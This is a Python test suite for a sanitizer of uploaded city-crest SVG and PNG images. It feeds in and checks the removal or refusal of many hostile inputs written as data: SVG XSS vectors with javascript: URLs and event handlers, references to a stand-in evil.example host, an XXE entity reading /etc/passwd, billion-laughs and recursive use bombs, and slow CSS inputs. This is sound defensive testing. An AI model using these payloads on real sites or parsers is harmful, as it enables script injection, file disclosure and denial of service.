"""A crest from outside: what is wicked in it never comes out, what it looks like does."""

import re
import struct
import time
import zlib
from io import BytesIO

import pytest
from defusedxml.ElementTree import fromstring
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image, PngImagePlugin

from src.tenants.cities.crest import Crest, CrestRefused, crest, prepared
from src.tenants.cities.svg_allowed import PROPERTIES

HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"'
SHAPE = '<path id="ok" d="M0 0h10v10z"/>'


def svg(inside: str, head: str = "") -> bytes:
    return f"{HEAD} {head}>{SHAPE}{inside}</svg>".encode()


def harmless(made: Crest) -> str:
    """What came out, checked for all that must never be in it, whatever went in."""
    text = made.data.decode()
    low = text.lower()
    for word in ("javascript", "<script", "foreignobject", "<style", "style=", "@import", "data:", "<!", "<?", "<image", "<a "):
        assert word not in low, word
    assert not re.search(r"\son\w+\s*=", low)
    assert not re.search(r"(?:href|src)=\"(?!#)", low)
    assert not re.search(r"url\((?!#[\w.:-]+\))", low)
    assert "evil" not in low
    assert "http" not in low.replace("http://www.w3.org/2000/svg", "", 1)
    for element in fromstring(text).iter():
        assert element.tag.startswith("{http://www.w3.org/2000/svg}")
    return text


WICKED = {
    "script": (svg("<script>alert('evil')</script>"), {"svg_script"}),
    "script with CDATA": (svg("<script><![CDATA[alert('evil')]]></script>"), {"svg_script"}),
    "script from outside": (svg('<script xlink:href="https://evil.example/x.js"/>'), {"svg_script"}),
    "script of another namespace": (
        svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">evil()</h:script>'),
        {"svg_script"},
    ),
    "script under another prefix": (
        b'<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><s:rect/><s:script>evil()</s:script></s:svg>',
        {"svg_script"},
    ),
    "script in capitals": (svg("<SCRIPT>evil()</SCRIPT>"), {"svg_script"}),
    "script inside of defs": (svg("<defs><g><script>evil()</script></g></defs>"), {"svg_script"}),
    "handler of SVG Tiny": (svg('<handler type="application/ecmascript">evil()</handler>'), {"svg_script"}),
    "onload": (svg("", 'onload="evil()"'), {"svg_event"}),
    "onclick in mixed case": (svg('<rect oNcLiCk="evil()"/>'), {"svg_event"}),
    "onbegin of an animation": (svg('<animate onbegin="evil()" attributeName="x"/>'), {"svg_animation"}),
    "onload written as entities": (svg('<rect onload="&#101;vil()"/>'), {"svg_event"}),
    "event of another namespace": (svg('<rect xmlns:e="http://www.w3.org/2001/xml-events" e:onload="evil()"/>'), {"svg_editor"}),
    "javascript: in a link": (svg('<a xlink:href="javascript:evil()"><rect/></a>'), {"svg_outside"}),
    "javascript: as entities": (svg('<a href="&#106;avascript&#58;evil()"><rect/></a>'), {"svg_outside"}),
    "javascript: with whitespace": (svg('<a href=" java&#10;script&#9;:evil()"><rect/></a>'), {"svg_outside"}),
    "javascript: in mixed case": (svg('<use href="JaVaScRiPt:evil()"/>'), {"svg_outside"}),
    "javascript: with a control character's look-alike": (svg('<a href="&#xAD;javascript:evil()"><rect/></a>'), {"svg_outside"}),
    "vbscript:": (svg('<a href="vbscript:evil()"><rect/></a>'), {"svg_outside"}),
    "link with a fragment first": (svg('<a href="#x" xlink:href="https://evil.example/"><rect/></a>'), {"svg_outside"}),
    "data: URL of a page": (svg('<use href="data:image/svg+xml;base64,ZXZpbA==#x"/>'), {"svg_outside"}),
    "data: URL of a picture": (svg('<image href="data:image/svg+xml,evil"/>'), {"svg_image"}),
    "picture from outside": (svg('<image xlink:href="https://evil.example/pixel.png"/>'), {"svg_image"}),
    "use of outside": (svg('<use xlink:href="https://evil.example/x.svg#y"/>'), {"svg_outside"}),
    "use of a neighbour file": (svg('<use href="evil.svg#y"/>'), {"svg_outside"}),
    "use of //": (svg('<use href="//evil.example/x.svg#y"/>'), {"svg_outside"}),
    "a reference that breaks out": (svg('<use href="#a&quot;onload=&quot;evil()"/>'), {"svg_outside"}),
    "foreignObject": (
        svg('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>'),
        {"svg_foreign"},
    ),
    "foreignObject in capitals": (svg("<FOREIGNOBJECT>evil</FOREIGNOBJECT>"), {"svg_foreign"}),
    "iframe": (svg('<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" srcdoc="evil"/>'), {"svg_foreign"}),
    "set of href": (svg('<use href="#ok"><set attributeName="href" to="javascript:evil()"/></use>'), {"svg_animation"}),
    "animate of xlink:href": (
        svg('<a><animate attributeName="xlink:href" values="javascript:evil()"/><rect/></a>'),
        {"svg_animation"},
    ),
    "CSS @import": (svg("<style>@import 'https://evil.example/x.css';</style>"), {"svg_outside"}),
    "CSS @import with url": (svg("<style>@import url(//evil.example/x.css);rect{fill:red}</style>"), {"svg_outside"}),
    "CSS @font-face": (svg("<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>"), {"svg_outside"}),
    "CSS @media": (svg("<style>@media all{rect{fill:url(https://evil.example)}}</style>"), {"svg_style"}),
    "style element, url outside": (svg("<style>path{fill:url(https://evil.example/x#y)}</style>"), {"svg_outside"}),
    "style element in CDATA": (svg("<style><![CDATA[path{mask:url('//evil.example#m')}]]></style>"), {"svg_outside"}),
    "style attribute, url outside": (svg('<rect style="fill:url(https://evil.example/#a)"/>'), {"svg_outside"}),
    "style attribute, escaped url": (svg('<rect style="fill:u\\72l(//evil.example)"/>'), {"svg_outside"}),
    "style attribute, url cut by a comment": (svg('<rect style="fill:ur/**/l(//evil.example)"/>'), {"svg_style"}),
    "style attribute, expression": (svg('<rect style="width:expression(evil())"/>'), {"svg_style"}),
    "style attribute, behaviour": (svg('<rect style="behavior:url(evil.htc);-moz-binding:url(evil)"/>'), {"svg_outside"}),
    "style attribute that breaks out": (svg('<rect style="fill:red&quot; onload=&quot;evil()"/>'), {"svg_style"}),
    "style element that closes itself": (svg("<style>path{fill:red}&lt;/style>&lt;script>evil()&lt;/script></style>"), set()),
    "paint from outside": (svg('<rect fill="url(https://evil.example/x#y)"/>'), {"svg_outside"}),
    "paint from outside with a fallback": (svg('<rect fill="url(#ok) url(//evil.example)"/>'), {"svg_outside"}),
    "paint by image-set": (svg("<rect fill=\"image-set('evil.png' 1x)\"/>"), {"svg_other"}),
    "filter that loads": (svg('<filter id="f"><feImage href="https://evil.example/x"/></filter>'), {"svg_filter"}),
    "cursor from outside": (svg('<rect cursor="url(https://evil.example/c)"/>'), {"svg_outside"}),
    "xml:base": (svg('<g xml:base="https://evil.example/"><use href="#ok"/></g>'), {"svg_outside"}),
    "style sheet by processing instruction": (b'<?xml-stylesheet href="https://evil.example/x.css"?>' + svg(""), set()),
    "comment with a script": (svg("<!-- <script>evil()</script> -->"), set()),
    "text that looks like a tag": (svg("<text>&lt;b></text>"), set()),
    "title that hides markup": (svg('<title>&lt;b>Герб&lt;/b></title><text id="&quot;">x</text>'), {"svg_other"}),
    "id that breaks out": (svg('<rect id="a&quot; onload=&quot;evil()"/>'), {"svg_other"}),
    "class with markup": (svg('<rect class="&lt;script&gt;evil"/>'), set()),
    "DOCTYPE of an editor": (
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://evil.example/svg11.dtd">' + svg(""),
        set(),
    ),
    "embedded object": (svg('<embed xmlns="http://www.w3.org/1999/xhtml" src="evil.swf"/>'), {"svg_foreign"}),
    "unknown namespace": (svg('<x:evil xmlns:x="urn:evil"/>'), {"svg_editor"}),
}


@pytest.mark.parametrize("name", WICKED)
def test_what_is_wicked_is_taken_out_and_told_of(name: str) -> None:
    data, kinds = WICKED[name]
    made = crest(data)
    text = harmless(made)
    assert 'd="M0 0h10v10z"' in text or "rect" in text
    assert {item.what.value for item in made.taken_out} == kinds
    again = crest(made.data)
    assert again.data == made.data and not again.taken_out


LAUGHS = '<!DOCTYPE svg [<!ENTITY a "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(2, 9)) + "]>"
NESTED_USE = "".join(f'<g id="u{n}">' + f'<use href="#u{n + 1}"/>' * 10 + "</g>" for n in range(12)) + '<rect id="u12"/>'
NESTED_PATTERN = (
    "".join(f'<pattern id="p{n}"><g fill="url(#p{n + 1})">' + "<rect/>" * 20 + "</g></pattern>" for n in range(8))
    + '<rect fill="url(#p0)"/>'
)

CYRILLIC = f'<?xml version="1.0" encoding="windows-1251"?>{HEAD}><text>Київ</text></svg>'

REFUSED = {
    "nothing": (b"", "crest_empty"),
    "blanks": (b" \n\t", "crest_empty"),
    "a text": ("просто текст".encode(), "crest_other_kind"),
    "a JPEG": (b"\xff\xd8\xff\xe0\x00\x10JFIF", "crest_other_kind"),
    "a GIF": (b"GIF89a\x01\x00\x01\x00", "crest_other_kind"),
    "a WebP": (b"RIFF\x00\x00\x00\x00WEBPVP8 ", "crest_other_kind"),
    "a gzip": (b"\x1f\x8b\x08\x00", "crest_other_kind"),
    "a PDF": (b"%PDF-1.7", "crest_other_kind"),
    "a page": (b"<html><body><svg/></body></html>", "svg_not_svg"),
    "an svg of another namespace": (b'<svg xmlns="urn:evil" viewBox="0 0 1 1"><rect/></svg>', "svg_not_svg"),
    "external entity": (b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + svg("<text>&x;</text>"), "svg_entities"),
    "parameter entity": (b'<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>' + svg(""), "svg_entities"),
    "billion laughs": (LAUGHS.encode() + svg("<text>&a8;</text>"), "svg_entities"),
    "attributes declared": (b'<!DOCTYPE svg [<!ATTLIST rect onload CDATA "evil()">]>' + svg("<rect/>"), "svg_entities"),
    "undeclared entity": (svg("<text>&evil;</text>"), "svg_broken"),
    "undeclared entity of an outer DTD": (
        b'<!DOCTYPE svg PUBLIC "x" "https://evil.example/x.dtd">' + svg("<text>&evil;</text>"),
        "svg_broken",
    ),
    "cut off": (svg("<g><rect/>")[:-10], "svg_broken"),
    "comment that HTML would close": (svg("<!-- --!><script>evil()</script> -->"), "svg_broken"),
    "badly nested": (svg("<g><rect></g></rect>"), "svg_broken"),
    "unbound prefix": (svg("<x:rect/>"), "svg_broken"),
    "two attributes of one name": (svg('<rect x="1" x="2"/>'), "svg_broken"),
    "a zero byte": (svg("<rect/>\x00"), "svg_broken"),
    "something after the end": (svg("") + svg(""), "svg_broken"),
    "windows-1251": (CYRILLIC.encode("cp1251"), "svg_not_utf8"),
    "windows-1251 declared, ASCII": (b'<?xml version="1.0" encoding="windows-1251"?>' + svg(""), "svg_not_utf8"),
    "UTF-7 declared": (b"<?xml version='1.0' encoding='UTF-7'?>" + svg("+ADw-script+AD4-"), "svg_not_utf8"),
    "UTF-16": (svg("").decode().encode("utf-16"), "svg_not_utf8"),
    "bytes that are no text": (svg("").replace(b"M0", b"\xff\xfe"), "svg_not_utf8"),
    "too heavy": (svg("<!--" + "x" * 210_000 + "-->"), "svg_too_heavy"),
    "too many elements": (svg("<g/>" * 5000), "svg_too_many"),
    "too deep": (svg("<g>" * 70 + "</g>" * 70), "svg_tangled"),
    "very deep": (svg("<g>" * 4900 + "</g>" * 4900), "svg_tangled"),
    "a billion by use": (svg(NESTED_USE), "svg_tangled"),
    "a billion by patterns": (svg(NESTED_PATTERN), "svg_tangled"),
    "drawing itself": (svg('<g id="a"><use href="#a"/></g>'), "svg_tangled"),
    "drawing each other": (svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'), "svg_tangled"),
    "a chain without an end": (svg("".join(f'<use id="a{n}" href="#a{n + 1}"/>' for n in range(2000))), "svg_tangled"),
    "rules written on everything": (
        svg("<style>g{font-family:" + "x" * 290 + "}</style>" + "<g/>" * 4000),
        "svg_too_heavy",
    ),
    "no size": (b'<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>', "svg_no_size"),
    "size in percent": (b'<svg xmlns="http://www.w3.org/2000/svg" width="100%" height="100%"><rect/></svg>', "svg_no_size"),
    "size of nothing": (b'<svg xmlns="http://www.w3.org/2000/svg" width="0" height="10"><rect/></svg>', "svg_no_size"),
    "view box of words": (b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="a b c d"><rect/></svg>', "svg_no_size"),
    "view box of nothing": (b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 0 10"><rect/></svg>', "svg_no_size"),
    "view box of NaN": (b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 nan inf"><rect/></svg>', "svg_no_size"),
    "nothing drawn": (b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><defs/></svg>', "svg_nothing_drawn"),
    "nothing left": (
        b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><image href="data:image/png;base64,AA=="/></svg>',
        "svg_nothing_drawn",
    ),
    "SVG after a PNG's first bytes": (b"\x89PNG\r\n\x1a\n" + svg("<script>evil()</script>"), "png_broken"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_cannot_be_cleaned_is_refused_with_its_reason(name: str) -> None:
    data, code = REFUSED[name]
    with pytest.raises(CrestRefused) as refused:
        crest(data)
    assert refused.value.code == code


@given(st.lists(st.sampled_from(sorted(WICKED)), min_size=2, max_size=6))
@settings(max_examples=40, deadline=None)
def test_wicked_things_together_are_no_worse(names: list[str]) -> None:
    inside = b"".join(WICKED[name][0] for name in names if WICKED[name][0].startswith(HEAD.encode()))
    harmless(crest(HEAD.encode() + b">" + SHAPE.encode() + inside + b"</svg>"))


@pytest.mark.parametrize(
    "css",
    [
        "a," * 40_000 + "b{" + "fill:red;" * 10_000 + "}",
        ",".join(f"a{n}" for n in range(25_000)) + "{" + "".join(f"{name}:1;" for name in sorted(PROPERTIES)) + "}",
        ".a{fill:red}" * 15_000,
        "/*" * 90_000,
        "{" * 190_000,
        "@" * 190_000,
        "a{fill:" + "url(" * 45_000 + "}",
    ],
    ids=lambda css: css[:12],
)
def test_a_style_sheet_made_to_take_long_does_not(css: str) -> None:
    began = time.process_time()
    crest(svg(f'<style>{css}</style><g class="a"/>'))
    assert time.process_time() - began < 3  # a tenth of a second on a machine that is not busy


CREST = """<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- made by an editor -->
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
  xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" version="1.1" width="40mm" height="50mm" viewBox="0 0 40 50"
  inkscape:version="1.3">
 <title>Герб</title>
 <metadata><rdf xmlns="urn:rdf"/></metadata>
 <style type="text/css"><![CDATA[
  /* colours */
  .gold, .coin { fill: #ffd700; stroke: none }
  path.gold { stroke: #000 !important; -inkscape-stroke: none }
  #lion { opacity: .5 }
 ]]></style>
 <defs>
  <linearGradient id="a"><stop offset="0" stop-color="#fff"/><stop offset="1" style="stop-color:#0057b7;stop-opacity:1"/></linearGradient>
  <linearGradient id="b" xlink:href="#a" gradientUnits="userSpaceOnUse" x1="0" y1="0" x2="40" y2="50" gradientTransform="rotate(10 5 5)"/>
  <clipPath id="shield"><path d="M0 0h40v30c0 10-10 20-20 20S0 40 0 30z"/></clipPath>
  <symbol id="star" viewBox="0 0 2 2"><polygon points="1,0 2,2 0,1"/></symbol>
 </defs>
 <g clip-path="url(#shield)" transform="translate(1 2) scale(.9)" inkscape:label="Shield">
  <rect width="40" height="50" fill="url('#b') #0057b7"/>
  <path class="gold" id="lion" d="M1 1l2 2z" style="stroke-width:.5;stroke:red;line-height:1.25;filter:none"/>
  <circle class="coin" cx="20" cy="20" r="5" fill="red"/>
  <use xlink:href="#star" x="3" y="4" width="2" height="2"/>
  <text x="1" y="49" font-family="'PT Serif', serif">Місто <tspan font-weight="bold">Сонця</tspan> &amp; моря</text>
 </g>
</svg>"""


def test_a_crest_of_an_editor_keeps_its_meaning() -> None:
    made = crest(CREST.encode())
    text = harmless(made)
    root = fromstring(text)
    space = "{http://www.w3.org/2000/svg}"

    def one(path: str) -> dict[str, str]:
        found = root.findall(path.replace("~", space))
        assert len(found) == 1
        return dict(found[0].attrib)

    assert root.attrib == {"width": "40mm", "height": "50mm", "viewBox": "0 0 40 50"}
    assert (made.media_type, made.width, made.height) == ("image/svg+xml", 40, 50)
    assert one("./~g") == {"clip-path": "url(#shield)", "transform": "translate(1 2) scale(.9)"}
    assert one("./~g/~rect") == {"width": "40", "height": "50", "fill": "url(#b) #0057b7"}
    assert one("./~g/~path") == {
        "id": "lion", "d": "M1 1l2 2z", "fill": "#ffd700", "stroke": "#000", "stroke-width": ".5", "opacity": ".5",
    }  # fmt: skip
    assert one("./~g/~circle") == {"cx": "20", "cy": "20", "r": "5", "fill": "#ffd700", "stroke": "none"}
    assert one("./~g/~use") == {"href": "#star", "x": "3", "y": "4", "width": "2", "height": "2"}
    assert one("./~defs/~linearGradient[@id='b']") == {
        "id": "b", "href": "#a", "gradientUnits": "userSpaceOnUse", "x1": "0", "y1": "0", "x2": "40", "y2": "50",
        "gradientTransform": "rotate(10 5 5)",
    }  # fmt: skip
    assert one("./~defs/~linearGradient[@id='a']/~stop[2]") == {"offset": "1", "stop-color": "#0057b7", "stop-opacity": "1"}
    assert one("./~defs/~clipPath/~path")["d"] == "M0 0h40v30c0 10-10 20-20 20S0 40 0 30z"
    assert "".join(root.find(f".//{space}text").itertext()) == "Місто Сонця & моря"
    assert root.find(f"{space}title").text == "Герб"
    assert {item.what.value for item in made.taken_out} <= {"svg_editor", "svg_style"}


def test_a_crest_without_a_view_box_gets_one_from_its_size() -> None:
    made = crest(b'<svg xmlns="http://www.w3.org/2000/svg" width="1in" height="48px"><rect/></svg>')
    assert fromstring(made.data.decode()).get("viewBox") == "0 0 96 48"


def test_a_crest_that_begins_with_a_byte_order_mark_or_blanks_is_read() -> None:
    assert crest(b"\xef\xbb\xbf" + svg("")).data == crest(b"\n " + svg("")).data == crest(svg("")).data


def test_a_drawing_whose_size_is_in_percent_takes_its_view_box() -> None:
    assert "100%" not in crest(svg("", 'width="100%" height="100%"')).data.decode()


def test_each_thing_left_out_is_counted() -> None:
    made = crest(svg("<script/><script/>" + '<rect onclick="x"/>'))
    assert [(item.what.value, item.name, item.times) for item in made.taken_out] == [
        ("svg_script", "script", 2),
        ("svg_event", "onclick", 1),
    ]


def png(picture: Image.Image, **how: object) -> bytes:
    out = BytesIO()
    picture.save(out, "PNG", **how)  # type: ignore[arg-type]
    return out.getvalue()


async def test_a_png_is_made_anew_small_and_without_what_it_knew() -> None:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Somebody", zip=True)
    picture = Image.new("RGBA", (1500, 900), (0, 87, 183, 128))
    made = await prepared(png(picture, pnginfo=info, dpi=(300, 300)) + svg("<script>evil()</script>"))
    assert (made.media_type, made.width, made.height) == ("image/png", 512, 307)
    with Image.open(BytesIO(made.data)) as again:
        assert again.format == "PNG" and again.mode == "RGBA" and not again.info
        assert again.getpixel((100, 100)) == (0, 87, 183, 128)
    assert b"Somebody" not in made.data and b"script" not in made.data


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
def test_pngs_of_every_kind_are_read(mode: str) -> None:
    made = crest(png(Image.new(mode, (20, 30))))
    assert (made.width, made.height) == (20, 30)


def test_only_the_first_picture_of_a_moving_png_stays() -> None:
    first, second = Image.new("RGB", (8, 8), "red"), Image.new("RGB", (8, 8), "blue")
    made = crest(png(first, save_all=True, append_images=[second]))
    with Image.open(BytesIO(made.data)) as again:
        assert getattr(again, "n_frames", 1) == 1 and again.getpixel((1, 1)) == (255, 0, 0, 255)


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def claimed(width: int, height: int) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 100)) + chunk(b"IEND", b"")


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (claimed(60_000, 60_000), "png_too_large"),
        (claimed(5000, 4000), "png_too_large"),
        (claimed(0, 10), "png_broken"),
        (claimed(100, 100), "png_broken"),
        (png(Image.new("RGB", (300, 300), "red"))[:-60], "png_broken"),
        (b"\x89PNG\r\n\x1a\n", "png_broken"),
        (b"\x89PNG\r\n\x1a\n" + b"\0" * (4 * 1024 * 1024), "png_too_heavy"),
    ],
)
def test_a_png_that_is_none_or_too_much_is_refused(data: bytes, code: str) -> None:
    with pytest.raises(CrestRefused) as refused:
        crest(data)
    assert refused.value.code == code
